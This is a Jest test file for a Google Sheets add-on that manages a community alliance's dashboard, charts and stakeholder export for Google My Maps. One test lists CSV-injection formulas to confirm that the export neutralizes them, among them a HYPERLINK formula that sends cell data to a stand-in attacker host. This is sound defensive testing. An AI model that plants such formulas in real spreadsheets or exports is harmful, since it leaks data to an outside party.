// Refresh dashboard on a set-up workbook: the counts a person reads, the charts Sheets would draw, the calls it costs.
import { addDays, addMonths } from '../../src/domain/calendar';
import type { LoadedAddon } from '../support/addon';
import { DASHBOARD_CALL_BUDGET } from '../support/budgets';
import { appendRows, readRows, setUpAlliance } from '../support/workbook';

const today = new Date().toISOString().slice(0, 10);

const SECTORS = [
  'Mediators',
  'Public authorities',
  'Social workers',
  'Educators',
  'Migrant and refugee communities',
];

function members(count = 10) {
  return Array.from({ length: count }, (_, index) => ({
    name: `Member ${index + 1}`,
    organisation: `Organisation ${index + 1}`,
    sector: SECTORS[index % SECTORS.length],
    charterSignedOn: index < 7 ? addDays(today, -100) : '',
  }));
}

function actions(count: number) {
  const statuses = ['Not started', 'In progress', 'Done', 'Blocked'];
  return Array.from({ length: count }, (_, index) => ({
    number: index + 1,
    action: `Action ${index + 1}`,
    owner: `Member ${(index % 10) + 1}`,
    start: addDays(today, -60),
    // Every third action is past due: the done ones among them are not overdue.
    due: index % 3 === 0 ? addDays(today, -10 - index) : addDays(today, 30),
    budget: 100,
    status: statuses[index % statuses.length],
  }));
}

/** What a person does by hand on the Dashboard sheet (or the workbook), not counted as the add-on's calls. */
function byHand(
  addon: LoadedAddon,
  change: (sheet: GoogleAppsScript.Spreadsheet.Sheet, book: GoogleAppsScript.Spreadsheet.Spreadsheet) => void,
): void {
  addon.ws.calls.uncounted(() => {
    const app = addon.ws.globals().SpreadsheetApp as GoogleAppsScript.Spreadsheet.SpreadsheetApp;
    const book = app.getActiveSpreadsheet();
    change(book.getSheetByName('Dashboard') as GoogleAppsScript.Spreadsheet.Sheet, book);
  });
}

/** A person's own title on one of the add-on's charts. */
function retitle(
  sheet: GoogleAppsScript.Spreadsheet.Sheet,
  chart: GoogleAppsScript.Spreadsheet.EmbeddedChart,
) {
  sheet.updateChart(chart.modify().setOption('title', 'Where our actions are').build());
}

/** Room for long tables: a new sheet has 1,000 rows, as in Sheets. */
function makeRoom(addon: LoadedAddon, rows: number): void {
  addon.ws.calls.uncounted(() => {
    const app = addon.ws.globals().SpreadsheetApp as GoogleAppsScript.Spreadsheet.SpreadsheetApp;
    const sheet = app
      .getActiveSpreadsheet()
      .getSheetByName('Action plan') as GoogleAppsScript.Spreadsheet.Sheet;
    if (sheet.getMaxRows() < rows) sheet.insertRowsAfter(sheet.getMaxRows(), rows - sheet.getMaxRows());
  });
}

function fill(addon: LoadedAddon, actionCount = 10): void {
  makeRoom(addon, actionCount + 10);
  appendRows(addon, 'members', members());
  appendRows(
    addon,
    'meetings',
    [-16, -12, -6, -1, 1].map((months, index) => ({
      number: index + 1,
      date: addMonths(today, months),
      place: months > 0 ? 'Maison des Associations' : 'Bordeaux',
      status: months > 0 ? 'Planned' : 'Held',
    })),
  );
  appendRows(addon, 'actionPlan', actions(actionCount));
  appendRows(addon, 'stakeholders', [
    { stakeholder: 'Mairie de Bordeaux', influence: 'High', interest: 'High' },
    { stakeholder: 'CAF', influence: 'High', interest: 'Low' },
    { stakeholder: 'Library', influence: 'Low', interest: 'Medium' },
  ]);
}

function dashboard(addon: LoadedAddon) {
  return addon.ws.calls.uncounted(() => {
    const model = [...addon.ws.spreadsheets.values()][0];
    const sheet = model.sheetByName('Dashboard');
    if (!sheet) throw new Error('No Dashboard sheet');
    const app = addon.ws.globals().SpreadsheetApp as GoogleAppsScript.Spreadsheet.SpreadsheetApp;
    const facade = app
      .getActiveSpreadsheet()
      .getSheetByName('Dashboard') as GoogleAppsScript.Spreadsheet.Sheet;
    const range = facade.getDataRange();
    return {
      values: range.getDisplayValues(),
      backgrounds: range.getBackgrounds(),
      charts: sheet.data.charts,
    };
  });
}

const line = (values: string[][], label: string) => values.find((row) => row[0] === label) ?? [];

describe('Refresh dashboard', () => {
  it('shows the alliance’s counts, names the missing sectors and the overdue owners', () => {
    const addon = setUpAlliance();
    fill(addon);
    addon.run('refreshDashboard');
    const { values, backgrounds } = dashboard(addon);

    expect(line(values, 'Members').slice(1, 3)).toEqual(['10', 'Within the guide’s 8–12 representatives']);
    expect(line(values, 'Sectors covered').slice(1, 3)).toEqual([
      '5 / 7',
      'Missing: Community networks and organisations, NGOs working on reception and socio-cultural inclusion',
    ]);
    expect(line(values, 'Charter signed').slice(1, 3)).toEqual(['7 / 10', '3 members still to sign']);
    expect(line(values, 'Meetings held in the last 18 months').slice(1, 2)).toEqual(['4']);
    expect(line(values, 'Next meeting')[2]).toBe('Maison des Associations');
    expect(line(values, 'Actions')[1]).toBe('10');
    for (const [status, count] of [
      ['Not started', '3'],
      ['In progress', '3'],
      ['Done', '2'],
      ['Blocked', '2'],
    ]) {
      expect(line(values, `    ${status}`)[1]).toBe(count);
    }
    // Actions 1, 4, 7 and 10 are past due; 7 is done, so 1 (not started), 4 (blocked) and 10 (in progress) are overdue.
    const overdueRow = values.findIndex((row) => row[0] === 'Overdue and not done');
    expect(values[overdueRow][1]).toBe('3');
    expect(backgrounds[overdueRow][2]).toBe('#f4cccc');
    const owners = values.filter((row) => /^Action \d+$/.test(row[0])).map((row) => [row[0], row[1]]);
    expect(owners).toEqual([
      ['Action 10', 'Member 10'],
      ['Action 4', 'Member 4'],
      ['Action 1', 'Member 1'],
    ]);
    expect(line(values, 'Budget planned')[1]).toBe('1000');
  });

  it('keeps three charts over its data blocks, drawn once, never duplicated', () => {
    const addon = setUpAlliance();
    fill(addon);
    addon.run('refreshDashboard');
    const first = dashboard(addon).charts.map((chart) => chart.chartId);
    addon.run('refreshDashboard');
    const { charts } = dashboard(addon);
    expect(charts.map((chart) => chart.chartId)).toEqual(first);
    expect(charts.map((chart) => chart.chartType)).toEqual(['PIE', 'BAR', 'BUBBLE']);
    expect(charts.map((chart) => chart.options.title)).toEqual([
      'Actions by status',
      'Members by sector',
      'Stakeholders: influence × interest',
    ]);
    expect(charts.every((chart) => chart.ranges.length === 1 && chart.numHeaders === 1)).toBe(true);
  });

  it('leaves a person’s change to a chart, and draws again only a chart they removed', () => {
    const addon = setUpAlliance();
    fill(addon);
    addon.run('refreshDashboard');
    byHand(addon, (sheet) => {
      const [pie, bar] = sheet.getCharts();
      retitle(sheet, pie);
      sheet.removeChart(bar);
    });
    addon.run('refreshDashboard');
    const { charts } = dashboard(addon);
    expect(charts.map((chart) => [chart.chartType, chart.options.title])).toEqual([
      ['PIE', 'Where our actions are'],
      ['BUBBLE', 'Stakeholders: influence × interest'],
      ['BAR', 'Members by sector'],
    ]);
  });

  it('puts its charts’ words in the workbook’s new language, and leaves a title a person wrote', () => {
    const addon = setUpAlliance();
    fill(addon);
    addon.run('refreshDashboard');
    byHand(addon, (sheet, book) => {
      retitle(sheet, sheet.getCharts()[0]);
      // The workbook's language, as its settings record keeps it, becomes French.
      const [settings] = book.createDeveloperMetadataFinder().withKey('allianceKit.settings').find();
      settings.setValue(JSON.stringify({ ...JSON.parse(settings.getValue() ?? '{}'), language: 'fr' }));
    });
    const before = dashboard(addon).charts.map((chart) => chart.chartId);
    addon.run('refreshDashboard');
    const { charts, values } = dashboard(addon);
    expect(values[0]).toContain('Données des graphiques');
    expect(charts.map((chart) => chart.chartId)).toEqual(before);
    expect(charts.map((chart) => chart.options.title)).toEqual([
      'Where our actions are',
      'Membres par secteur',
      'Intervenants : influence × intérêt',
    ]);
    expect(charts[2].options.hAxis).toMatchObject({ title: 'Intérêt' });
    expect(charts[0].options.pieHole).toBe(0.4);
    // Relabelled once: the next refresh reads no chart's title.
    addon.ws.calls.reset();
    addon.run('refreshDashboard');
    expect(addon.ws.calls.snapshot().byMethod['EmbeddedChart.getOptions']).toBeUndefined();
  });

  it('lists what it could not read and changes no cell a person wrote', () => {
    const addon = setUpAlliance();
    appendRows(addon, 'members', members());
    appendRows(addon, 'actionPlan', [
      { action: 'Typed date', owner: 'Member 1', due: '15/04/2027', status: 'Not started' },
      {},
      { action: 'Gone owner', owner: 'Someone who left', budget: 'about 500', status: 'In progress' },
    ]);
    const before = readRows(addon, 'actionPlan', ['action', 'owner', 'due', 'budget', 'status']);
    addon.run('refreshDashboard');
    expect(readRows(addon, 'actionPlan', ['action', 'owner', 'due', 'budget', 'status'])).toEqual(before);
    const { values } = dashboard(addon);
    const problems = values
      .filter((row) => row[0] === 'Action plan' && row[1] !== '')
      .map((row) => row.slice(1, 4));
    expect(problems).toEqual([
      ['2', 'Implementation / timetable: due', '15/04/2027'],
      ['4', 'People: who will do what?', 'Someone who left'],
      ['4', 'Estimated budget', 'about 500'],
    ]);
  });

  it(`costs the same calls with 10 and 5,000 actions, within ${DASHBOARD_CALL_BUDGET}`, () => {
    const calls = (count: number) => {
      const addon = setUpAlliance();
      fill(addon, count);
      addon.ws.calls.reset();
      addon.run('refreshDashboard');
      return addon.ws.calls.snapshot();
    };
    const small = calls(10);
    const large = calls(5000);
    expect(large.byMethod).toEqual(small.byMethod);
    expect(small.total).toBeLessThanOrEqual(DASHBOARD_CALL_BUDGET);
  });
});

describe('the communication plan’s next dates on refresh', () => {
  it('fills empty next dates from the frequency and leaves a date a person typed', () => {
    const addon = setUpAlliance();
    appendRows(addon, 'communicationPlan', [
      { stakeholderGroup: 'Press', frequency: 'Every month' },
      { stakeholderGroup: 'Town hall', frequency: 'Every week', nextDate: addDays(today, -3) },
      { stakeholderGroup: 'Newsletter', frequency: '' },
    ]);
    addon.run('refreshDashboard');
    const dates = () =>
      readRows(addon, 'communicationPlan', ['nextDate']).map((row) => {
        const value = row.values.nextDate;
        return value instanceof Date ? value.toISOString().slice(0, 10) : value;
      });
    expect(dates()).toEqual([today, addDays(today, -3), '']);
  });
});

describe('Export stakeholders for Google My Maps', () => {
  it('neutralizes every cell that a spreadsheet program would run from the downloaded CSV, as OWASP advises', () => {
    const addon = setUpAlliance('en');
    const hostile = ['=HYPERLINK("http://evil.example/"&A1)', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1'];
    appendRows(
      addon,
      'stakeholders',
      hostile.map((name) => ({ stakeholder: `'${name}`, address: `'${name}`, contactPerson: `'${name}` })),
    );
    addon.run('exportStakeholdersForMyMaps');
    const rows = addon.ws.calls.uncounted(() => {
      const app = addon.ws.globals().SpreadsheetApp as GoogleAppsScript.Spreadsheet.SpreadsheetApp;
      const sheet = app
        .getActiveSpreadsheet()
        .getSheetByName('My Maps export') as GoogleAppsScript.Spreadsheet.Sheet;
      return { values: sheet.getDataRange().getValues(), formulas: sheet.getDataRange().getFormulas() };
    });
    // The stored value is what File › Download › CSV writes: each starts with the apostrophe, none is a formula.
    const cells = rows.values.slice(1).map((row) => [row[0], row[1], row[4]]);
    expect(cells).toEqual(
      hostile.map((name) => name.trim()).map((name) => [`'${name}`, `'${name}`, `'${name}`]),
    );
    expect(rows.formulas.flat().filter(Boolean)).toEqual([]);
  });

  it('writes a sheet of name, address, category, influence and contact, and says how to import it', () => {
    const addon = setUpAlliance('fr');
    appendRows(addon, 'stakeholders', [
      {
        stakeholder: "'=Mairie de Bordeaux",
        address: 'Place Pey-Berland, 33000 Bordeaux',
        category: 'Pouvoirs publics',
        influence: 'Haut',
        contactPerson: 'Claire Martin',
        email: 'claire@example.org',
      },
      { stakeholder: 'Sans adresse', influence: 'Faible' },
    ]);
    addon.run('exportStakeholdersForMyMaps');
    addon.run('exportStakeholdersForMyMaps');
    const sheets = addon.ws.calls.uncounted(() =>
      [...addon.ws.spreadsheets.values()][0].sheets.filter((sheet) => sheet.name === 'Export My Maps'),
    );
    expect(sheets).toHaveLength(1);
    const values = addon.ws.calls.uncounted(() => {
      const app = addon.ws.globals().SpreadsheetApp as GoogleAppsScript.Spreadsheet.SpreadsheetApp;
      return (
        app.getActiveSpreadsheet().getSheetByName('Export My Maps') as GoogleAppsScript.Spreadsheet.Sheet
      )
        .getDataRange()
        .getDisplayValues();
    });
    expect(values).toEqual([
      ['Nom', 'Adresse', 'Catégorie', 'Influence', 'Contact'],
      [
        "'=Mairie de Bordeaux",
        'Place Pey-Berland, 33000 Bordeaux',
        'Pouvoirs publics',
        'Haut',
        'Claire Martin · claire@example.org',
      ],
    ]);
    const alerts = addon.ws.ui.alerts;
    expect(alerts[alerts.length - 1].message).toMatch(
      /Fichier › Télécharger .*My Maps[\s\S]*1 intervenant sans adresse a été laissé de côté/,
    );
  });
});
